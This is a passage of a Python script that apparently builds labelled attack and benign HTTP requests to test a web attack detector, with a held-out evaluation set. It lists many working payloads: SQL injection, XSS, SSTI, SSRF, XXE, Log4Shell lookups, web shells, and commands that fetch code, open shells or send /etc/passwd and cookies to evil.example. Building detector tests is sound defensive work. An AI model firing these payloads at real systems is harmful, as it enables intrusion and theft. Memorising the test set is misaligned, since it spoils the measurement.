        "method": "GET",
        "target": "/",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0",
            "Referer": "() { ignored;}; echo Content-Type: text/plain ; echo ; /bin/cat /etc/passwd"
        }
    },
    {
        "method": "GET",
        "target": "/",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0",
            "X-Forwarded-For": "127.0.0.1' or 1=1--"
        }
    },
    {
        "method": "GET",
        "target": "/",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0",
            "Cookie": "id=1' UNION SELECT password FROM users--"
        }
    },
    {
        "method": "GET",
        "target": "/",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0",
            "Cookie": "lang=../../../../etc/passwd"
        }
    },
    {
        "method": "GET",
        "target": "/",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0",
            "Accept": "${jndi:ldap://evil.example/a}"
        }
    },
    {
        "method": "GET",
        "target": "/",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0",
            "Authorization": "Bearer ${jndi:ldap://evil.example/a}"
        }
    },
    {
        "method": "POST",
        "target": "/login",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0",
            "Content-Type": "application/x-www-form-urlencoded"
        },
        "body": "username=admin%27--&password=x"
    },
    {
        "method": "POST",
        "target": "/comment",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0",
            "Content-Type": "application/x-www-form-urlencoded"
        },
        "body": "text=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"
    },
    {
        "method": "POST",
        "target": "/x",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0",
            "Content-Type": "application/xml"
        },
        "body": "<?xml version=\"1.0\"?><user><name>' or 1=1--</name></user>"
    },
    {
        "method": "POST",
        "target": "/x",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0",
            "Content-Type": "application/xml"
        },
        "body": "<?xml version=\"1.0\"?><user><name>&lt;script&gt;alert(1)&lt;/script&gt;</name></user>"
    },
    {
        "method": "GET",
        "target": "/?redirect=http%3A%2F%2F0x7f000001%3A8080%2F",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?url=http%3A%2F%2F%E2%91%A0%E2%91%A1%E2%91%A6.%E2%93%AA.%E2%93%AA.%E2%91%A0%2F",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?url=http%3A%2F%2F127.0.0.1.nip.io%2Fadmin",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?url=http%3A%2F%2F%5B0%3A0%3A0%3A0%3A0%3Affff%3A127.0.0.1%5D%2F",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?tpl=%7B%7B%27%27.__class__.__mro__%5B1%5D.__subclasses__%28%29%5B40%5D%28%27%2Fetc%2Fpasswd%27%29.read%28%29%7D%7D",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?name=%7B%7B7%2A7%7D%7D",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?x=%7B%24smarty.version%7D",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?x=%23set%28%24e%3D%22e%22%29%24e.getClass%28%29.forName%28%22java.lang.Runtime%22%29",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?x=%40%7B7%2A7%7D",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?q=%3Csvg%3E%3Canimatetransform%20onbegin%3Dalert%281%29%3E",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?q=%3Ca%20href%3D%22data%3Atext%2Fhtml%3Bbase64%2CPHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D%22%3Ex%3C%2Fa%3E",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?q=%22onmouseover%3D%22alert%281%29",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?q=%27%3Balert%28String.fromCharCode%2888%2C83%2C83%29%29%2F%2F",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?q=%3Cscript%3Eeval%28location.hash.slice%281%29%29%3C%2Fscript%3E",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?q=%3CScRiPt%20%3Ealert%281%29%3C%2FScRiPt%20%3E",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?q=%3Cscr%00ipt%3Ealert%281%29%3C%2Fscr%00ipt%3E",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?q=javascript%26colon%3Balert%281%29",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?q=%3Ciframe%20src%3D%22jAvAsCrIpT%3Aalert%281%29%22%3E",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?id=1%20AND%20%28SELECT%206765%20FROM%20%28SELECT%28SLEEP%285%29%29%29OQT%29",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?id=1%29%20AND%207521%3D7521%20AND%20%283468%3D3468",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?id=1%27%20AND%203556%3D3556%20AND%20%27pOyw%27%3D%27pOyw",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?id=-5305%27%20UNION%20ALL%20SELECT%20NULL%2CCONCAT%280x7176%2C0x78%29--%20-",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?id=1%20procedure%20analyse%28extractvalue%28rand%28%29%2Cconcat%280x3a%2Cversion%28%29%29%29%2C1%29",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?id=1%27%20AND%201%3D%28SELECT%201%20FROM%20pg_sleep%285%29%29--",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?id=%28select%280%29from%28select%28sleep%285%29%29%29v%29%2F%2A%27%2B%28select%280%29from%28select%28sleep%285%29%29%29v%29%2B%27%22%2B%28select%280%29from%28select%28sleep%285%29%29%29v%29%2B%22%2A%2F",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    },
    {
        "method": "GET",
        "target": "/?id=1%3BEXEC%20master..xp_cmdshell%20%27ping%20127.0.0.1%27--",
        "headers": {
            "Host": "h",
            "User-Agent": "Mozilla/5.0"
        }
    }
]

D_BENIGN = [
    "What's the best way to learn SQL? I tried \"SELECT * FROM table\" but it's confusing.",
    "Order by date; newest first",
    "I'll be there at 5 -- promise!",
    "Can't login; password reset doesn't work",
    "Buy 1 get 1 free (limited time) -- while supplies last",
    "Dear Sir/Madam, please find attached my CV.",
    "Use <br> for line breaks",
    "<p>Hello <strong>world</strong></p>",
    "The function returns true if x > 0 and y < 10",
    "email: first.last+tag@sub.example.co.uk",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
    "https://example.com/search?q=select+from&sort=asc",
    "192.168.0.1",
    "10.0.0.0/8",
    "::1 is the IPv6 loopback",
    "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
    "/usr/local/bin/python3",
    "~/Documents/report.docx",
    "$HOME/.config",
    "echo \"hello world\"",
    "npm install --save-dev @types/node",
    "git log --oneline | head -5",
    "SELECT name FROM products WHERE price < 100",
    "UPDATE: the meeting is moved to 3pm",
    "DROP by anytime!",
    "Union Pacific Railroad",
    "I want to exec my plan",
    "He said: \"It's 5 o'clock somewhere\"",
    "1 + 1 = 2",
    "a=b&c=d",
    "key=value; other=thing",
    "100% satisfaction -- guaranteed",
    "#1 best seller!!!",
    "@john please review",
    "Q: What is 2+2? A: 4",
    "sleep tight, see you tomorrow",
    "My cat's name is Whiskers; my dog's name is Rex",
    "Price < $50 & free shipping",
    "Tom's Diner & Bar",
    "Sales (Q3) increased 15% vs. Q2",
    "fr-FR,fr;q=0.9,en;q=0.8",
    "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc",
    "{\"key\": \"value\", \"n\": 1}",
    "[1, 2, 3]",
    "user@example.com; admin@example.com",
    "Ticket #4521: printer on 3rd floor won't print",
    "I'm using Windows 10; the cmd window closes immediately",
    "Run \"pip install requests\" then \"python main.py\"",
    "if (x == 1) { return; }",
    "x = y * 2 + (z / 3)",
    "<3 <3 <3",
    ":) :( ;) :D",
    "The script tag <script> is used for JavaScript",
    "Contact us: +1-800-555-0199 (toll free)",
    "Spaghetti & meatballs; garlic bread",
    "\"quoted\"",
    "'single'",
    "O'Neil, D'Arcy & McDonald's",
    "Johnson & Johnson",
    "AT&T; Verizon; T-Mobile",
    "3 > 2 > 1",
    "5' 11\" tall",
    "6'2\" and 180 lbs",
    "10 < 20 or 30 > 25",
    "rm -rf node_modules && npm ci",
    "sudo apt-get update",
    "cd ~ && ls",
    "pg_dump mydb > backup.sql",
    "The Union select committee met today.",
    "or else!",
    "and then there were none",
    "http://localhost:3000/callback",
    "Enter your name (e.g. \"John\")",
    "don't/won't/can't",
    "Lorem ipsum dolor sit amet, consectetur adipiscing elit.",
    "¿Dónde está la biblioteca?",
    "Ich heiße Jürgen und wohne in Köln.",
    "Москва — столица России.",
    "北京欢迎你",
    "شكراً لك",
    "שלום עולם",
    "こんにちは世界",
    "안녕하세요",
    "Xin chào",
    "สวัสดีครับ",
    "नमस्ते दुनिया",
    "Γειά σου Κόσμε",
    "😀🎉👍 great!!!",
    "Résumé.pdf",
    "naïve coöperation",
    "/api/v1/users/123/orders?status=open",
    "../assets/img.png",
    "./configure && make && make install",
    "SELECT * FROM users; -- just kidding",
    "DELETE my account please",
    "Please UPDATE my address to 12 Main St.",
    "insert coin to continue",
    "exec summary attached",
    "${name} template variable",
    "{{ user.name }}",
    "<%= link_to 'Home', root_path %>",
    "#{interpolation} in ruby",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
    "javascript is fun",
    "java.lang.String",
    "class Foo extends Bar {}",
    "import os; os.getcwd()",
    "eval is evil",
    "function() { return this; }",
    "() => {}",
    "$ne is not equal in mongo",
    "user[name]=john&user[age]=30",
    "filter[status]=active&page[size]=20",
    "<a href=\"https://example.com\">link</a>",
    "<img src=\"https://cdn.example.com/a.png\" alt=\"photo\">",
    "&lt;b&gt;bold&lt;/b&gt;",
    "&amp; &quot; &#39;",
    "%20%3C%3E",
    "50%25 off",
    "Wait -- what?",
    "--help",
    "-v --verbose",
    "~$ whoami"
]


def set_d():
    att, ben = [], []
    for i, p in enumerate(D_ATTACKS):
        h = base_headers()
        if i % 2:
            r = req("GET", "/find?q=" + q(p), h, note="query")
        else:
            h["Content-Type"] = "application/json"
            r = req("POST", "/api/find", h, json.dumps({"q": p}), note="json")
        r["group"], r["set"] = "payload_list", "d"
        att.append(r)
    for r in D_REQUESTS:
        r = dict(r, group="payload_list", set="d", note="encodings and places")
        att.append(r)
    for i, t in enumerate(D_BENIGN):
        h = base_headers()
        if i % 2:
            r = req("GET", "/find?q=" + q(t), h, note="query")
        else:
            h["Content-Type"] = "application/json"
            r = req("POST", "/api/notes", h, json.dumps({"text": t}), note="json")
        r["set"] = "d"
        ben.append(r)
    return att, ben


# ---------------------------------------------------------------------------
# Set "e": written last, after all tuning, and measured once; not tuned on.
E_ATTACKS = {
    "sqli": ["-1 OR 17-7=10", "1 AND 'a'='a'", "' OR username LIKE '%admin%", "'||(SELECT version())||'", "1 OR 1=1 LIMIT 1",
             "')) OR 1=1--", "\" or 1 --", "1) UNION SELECT pass FROM users WHERE (1=1",
             "' AND ascii(lower(substring((SELECT TOP 1 name FROM sysobjects WHERE xtype='U'), 1, 1))) > 116--",
             "admin')--", "1 AND EXTRACTVALUE(6678,CONCAT(0x5c,0x7178))", "1' UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b--"],
    "xss": ["<svg/onload=confirm`1`>", "<img src=`x`onerror=alert(1)>", "<body onpageshow=alert(1)>", "<a href=javascript&colon;alert(1)>x",
            "<script>document.location='http://evil.example/?c='+document.cookie</script>", "<iframe/src=\"data:text/html,<svg onload=alert(1)>\">",
            "'\"--></style></script><script>alert(1)</script>", "<object type=text/html data=//evil.example>", "<embed code=javascript:alert(1)>",
            "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>CLICK</maction></math>", "<sVg OnLoAd=alert(1)>",
            "%253Cscript%253Ealert(1)%253C%252Fscript%253E"],
    "lfi": ["..//..//..//etc//passwd", "/etc/passwd%2500", "..%255c..%255c..%255cboot.ini", "/var/www/html/../../../etc/shadow",
            "..///////..////..//////etc/passwd", "..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts", "%2e%2e%5c%2e%2e%5cwindows%5cwin.ini",
            "/proc/self/fd/0", "../../../../.ssh/authorized_keys"],
    "rce": ["|/bin/bash -c id", "`wget evil.example/s -O- | sh`", "$(sleep 5)", "| nslookup `whoami`.evil.example", "%0a/bin/cat%20/etc/passwd",
            "& powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://evil.example/a')\"",
            ";python3 -c 'import pty;pty.spawn(\"/bin/sh\")'", "|| curl -d @/etc/passwd evil.example", ";echo${IFS}$(id)"],
    "php": ["php://filter/read=convert.base64-encode/resource=../config.php", "<?php @eval($_POST['pass']);?>", "data://text/plain,<?php phpinfo()?>",
            "O:6:\"Logger\":1:{s:4:\"file\";s:9:\"shell.php\";}", "<?=`$_GET[1]`?>"],
    "java": ["${jndi:ldap://${hostName}.evil.example/a}", "${${lower:${lower:jndi}}:${lower:rmi}://evil.example/p}", "${j${::-n}di:dns://evil.example}",
             "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}", "${(#_memberAccess[\"allowStaticMethodAccess\"]=true)}",
             "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlcg=="],
    "ssti": ["{{self.__init__.__globals__.__builtins__}}", "{{[].__class__.__base__.__subclasses__()}}", "{{4*4}}[[5*5]]", "<%= `ls` %>",
             "#{ 3 * 3 }", "{{app.request.server.all|join(',')}}"],
    "ssrf": ["http://169.254.169.254/latest/api/token", "http://[::ffff:7f00:1]/", "http://0x7f.0x0.0x0.0x1/", "http://127.127.127.127/",
             "http://localtest.me/", "http://metadata.google.internal./computeMetadata/v1/instance/", "http://169.254.170.2/v2/credentials",
             "file://localhost/etc/passwd", "http://0177.1/"],
    "nodejs": ["require('child_process').exec('nc -e /bin/sh evil.example 4444')", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"],
}

E_BENIGN = [
    "Hi team -- the build is green again; please re-run your PRs.",
    "D'Artagnan and the Three Musketeers",
    "Ольга О'Коннор",
    "Use `SELECT COUNT(*)` to count rows; add `WHERE` to filter.",
    "| Name | Price |\n|------|-------|\n| Tea  | 2.50  |\n| Cake | 4.00  |",
    "Step 1: open Settings > Privacy; Step 2: toggle 'Share data' off.",
    "I'm 6' 2\" and wear size 11 shoes",
    "Dinner for 2 @ 7:30pm -- table by the window, please",
    "Loved it!!! <3 Will order again :-)",
    "Please ship to: Flat 3, 10 Downing St, London SW1A 2AA",
    "The or-operator in Python is `or`, not `||`.",
    "My email is not working (error 550: mailbox unavailable)",
    "Reminder: union meeting on Friday at noon",
    "Try `grep -r TODO .` to find the todos",
    "x < y && y < z implies x < z",
    "Can you update the README? The install steps changed.",
    "Is drop-shipping allowed for this product?",
    "Re: Invoice #2024-118 (second reminder)",
    "Café au lait, crème brûlée & pain au chocolat",
    "«Война и мир» — роман Льва Толстого",
    "注意：请勿在 /tmp 目录下保存重要文件。",
    "مرحباً، أريد تغيير عنوان الشحن من فضلك",
    "https://maps.example.com/?q=52.5200,13.4050&z=12",
    "C:\\Users\\anna\\Documents\\Q3 report (draft).xlsx",
    "{\"nested\": \"json in a string\", \"ok\": true}",
    "Questions? Call 0800 123 4567 or write to help@example.org",
    "10/10 would recommend; best purchase this year",
    "Warning: the alert() in our old code showed a popup; removed it.",
    "He typed 'exit' and the window closed",
    "Meet at the Union Select Hotel lobby",
]


def set_e():
    att, ben = [], []
    for group, payloads in E_ATTACKS.items():
        for p in payloads:
            for r in variants(p, 2):
                r["group"], r["set"] = group, "e"
                att.append(r)
    for ct, x in [("text/xml", '<?xml version="1.0"?><!DOCTYPE root [<!ENTITY test SYSTEM \'file:///c:/windows/win.ini\'>]><root>&test;</root>'),
                  ("application/xml", '<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.example/evil.dtd"> %xxe;]><foo/>')]:
        r = req("POST", "/import", dict(base_headers(), **{"Content-Type": ct}), x, note="xml body")
        r["group"], r["set"] = "xxe", "e"
        att.append(r)
    for kind, v in [("json", {"username": {"$in": ["admin", "root"]}, "password": {"$ne": ""}}), ("query", "login[$regex]=a.*&pass[$ne]=1"),
                    ("json", {"$where": "sleep(100)"}), ("query", "user=admin&password[%24gt]=")]:
        h = base_headers()
        if kind == "json":
            h["Content-Type"] = "application/json"
            r = req("POST", "/api/session", h, json.dumps(v), note=kind)
        else:
            r = req("GET", "/api/session?" + v, h, note=kind)
        r["group"], r["set"] = "nosqli", "e"
        att.append(r)
    for ua in ["Mozilla/5.0 (compatible; Nmap Scripting Engine)", "sqlmap/1.5.2#stable", "Nikto", "gobuster/3.1.0", "Wfuzz/2.4"]:
        r = req("GET", "/", base_headers(ua), note="user agent")
        r["group"], r["set"] = "scanners", "e"
        att.append(r)
    for p in ["/.git/config", "/.env.bak", "/phpinfo.php", "/.svn/wc.db", "/server-status", "/admin/.env"]:
        r = req("GET", p, base_headers(), note="probe path")
        r["group"], r["set"] = "scanners", "e"
        att.append(r)
    for t in ["/?sessionid=xyz123", "/login;JSESSIONID=abc987"]:
        r = req("GET", t, base_headers(), note="session")
        r["group"], r["set"] = "session_fixation", "e"
        att.append(r)
    for t in E_BENIGN:
        for kind in ["query", "json", "form"]:
            h = base_headers()
            if kind == "query":
                r = req("GET", "/search?q=" + q(t), h, note=kind)
            elif kind == "json":
                h["Content-Type"] = "application/json"
                r = req("POST", "/api/messages", h, json.dumps({"body": t, "to": "support"}, ensure_ascii=False), note=kind)
            else:
                h["Content-Type"] = "application/x-www-form-urlencoded"
                r = req("POST", "/contact", h, "subject=Hello&message=" + q(t), note=kind)
            r["set"] = "e"
            ben.append(r)
    return att, ben


if __name__ == "__main__":
    main()
